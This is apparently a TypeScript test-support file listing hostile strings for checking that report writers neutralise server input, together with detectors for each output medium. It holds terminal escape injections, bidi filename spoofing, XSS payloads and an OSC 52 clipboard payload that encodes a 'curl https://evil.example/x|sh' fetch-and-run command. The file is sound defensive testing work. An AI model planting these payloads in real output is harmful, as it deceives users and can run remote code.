// A catalogue of strings a hostile server sends to steer what people and CI read (terminal controls, invisible
// and bidi characters, Markdown and HTML), and the finders that say what of them survived live in a medium:
// a terminal's lines, report.md, report.html. Test support for the report writers and the hostile runs.

/** Each string by what it tries. */
export const HOSTILE_STRINGS: Record<string, string> = {
  'ESC clear screen and home': '\x1b[2J\x1b[H',
  'CSI erase the previous line': '\x1b[1A\x1b[2K',
  'OSC 0 window title': '\x1b]0;pwned\x07',
  'OSC 52 clipboard write': '\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94fHNo\x07',
  'OSC 8 hyperlink': '\x1b]8;;https://evil.example/rotate\x1b\\Rotate your key here\x1b]8;;\x1b\\',
  'C1 CSI (U+009B)': '\u009b2J\u009b1;31m',
  'C1 OSC and ST': '\u009d0;title\u009c',
  DEL: 'a\u007fb',
  'bell, backspace, carriage return': 'x\x07\x08\rPASS LIST-FORGED',
  'bidi override (U+202E)': 'invoice\u202Etxt.exe',
  'bidi isolates and marks': '\u2066x\u2069\u200e\u200f\u061c',
  'zero-width and BOM': 'a\u200bb\u200c\u200d\ufeff',
  'line and paragraph separators': 'a\u2028b\u2029c',
  'tag characters': 'flag\u{E0067}\u{E0062}\u{E007F}',
  'line feed forging a console line': 'ok\n  PASS  LIST-FORGED                        MUST   all good',
  'Markdown link': '[Rotate your key here](https://evil.example/rotate)',
  'Markdown image': '![pixel](https://evil.example/pixel.png)',
  'reference link': '[x]: https://evil.example/ref',
  autolinks: '<https://evil.example/a> https://evil.example/b www.evil.example',
  'HTML image': '<img src=x onerror=alert(1)>',
  'HTML script': '<script>alert(1)</script>',
  'HTML link': '<a href="https://evil.example/">here</a>',
  'backticks closing a code span': '``` `x` `` ` | a|b',
};

/** Every hostile string in one text, e.g. an Error message. */
export const ALL_HOSTILE = Object.values(HOSTILE_STRINGS).join(' ');

/** Characters that act on a terminal or hide and reorder text (as lib/report/inert.ts escapes them). */
const STEERING = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

/** The first steering character of a line, described, or undefined. */
function steering(line: string, keep = ''): string | undefined {
  for (const c of line) {
    if (keep.includes(c)) continue;
    if (STEERING.test(c)) return `U+${c.codePointAt(0)!.toString(16).padStart(4, '0')}`;
  }
  return undefined;
}

/** What survived live in terminal output: any control in a line, or a line a server forged. */
export function liveInTerminal(text: string): string[] {
  const out: string[] = [];
  text.split('\n').forEach((line, i) => {
    const c = steering(line);
    if (c) out.push(`line ${i + 1}: ${c} in ${JSON.stringify(line.slice(0, 120))}`);
    if (/^\s*PASS\s+LIST-FORGED/.test(line)) out.push(`line ${i + 1} is forged: ${line}`);
  });
  return out;
}

/**
 * Markdown with its code spans taken out (CommonMark: a run of n backticks closed by the next run of exactly
 * n), what is left being what a renderer reads as Markdown and HTML.
 */
function outsideCodeSpans(md: string): { prose: string; code: string[] } {
  let prose = '';
  const code: string[] = [];
  let i = 0;
  while (i < md.length) {
    if (md[i] !== '`' || (i > 0 && md[i - 1] === '\\')) {
      prose += md[i++];
      continue;
    }
    let n = 0;
    while (md[i + n] === '`') n++;
    const fence = '`'.repeat(n);
    let close = -1;
    for (let j = md.indexOf(fence, i + n); j !== -1; j = md.indexOf(fence, j + 1)) {
      if (md[j - 1] !== '`' && md[j + n] !== '`') {
        close = j;
        break;
      }
    }
    if (close === -1) {
      prose += fence;
      i += n;
      continue;
    }
    code.push(md.slice(i + n, close));
    i = close + n;
  }
  return { prose, code };
}

/** What survived live in report.md: markup outside code spans, a control anywhere, a line broken in a cell. */
export function liveInMarkdown(md: string): string[] {
  const out: string[] = [];
  const { prose, code } = outsideCodeSpans(md);
  const c = steering(md, '\n');
  if (c) out.push(`a control character ${c}`);
  for (const [what, re] of [
    ['an HTML tag', /<[a-z!/?]/i],
    ['a link or image', /\]\(|\]:|!\[/],
    ['an autolink', /:\/\/|www\./i],
  ] as const) {
    const m = re.exec(prose);
    if (m)
      out.push(
        `${what} outside code: ${JSON.stringify(prose.slice(Math.max(0, m.index - 40), m.index + 40))}`,
      );
  }
  for (const span of code)
    if (span.includes('\n')) out.push(`a code span across lines: ${span.slice(0, 80)}`);
  if (/^\s*PASS\s+LIST-FORGED/m.test(md)) out.push('a forged line');
  return out;
}

/** The tags report.html is made of: anything else came from a server. */
const OUR_TAGS = new Set(
  'html head meta title style body h1 h2 h3 h4 nav p a div span table tr th td ul ol li code pre details summary section dl dt dd b q br svg g line rect circle path text polyline title figure figcaption small i em strong abbr header'.split(
    ' ',
  ),
);

/** What survived live in report.html: a tag or handler not ours, no CSP, a control outside layout. */
export function liveInHtml(html: string): string[] {
  const out: string[] = [];
  if (!/<meta http-equiv="Content-Security-Policy" content="default-src 'none';/.test(html))
    out.push('no Content-Security-Policy meta');
  for (const m of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)) {
    if (!OUR_TAGS.has(m[1]!.toLowerCase())) out.push(`a <${m[1]}> tag`);
    if (/\son[a-z]+\s*=/i.test(m[2]!)) out.push(`an event handler in <${m[1]}${m[2]}>`);
    if (/\s(?:src|href)\s*=\s*(?!["']?#)/i.test(m[2]!)) out.push(`an outside reference in <${m[1]}${m[2]}>`);
  }
  const c = steering(html, '\n\t');
  if (c) out.push(`a control character ${c}`);
  return [...new Set(out)];
}
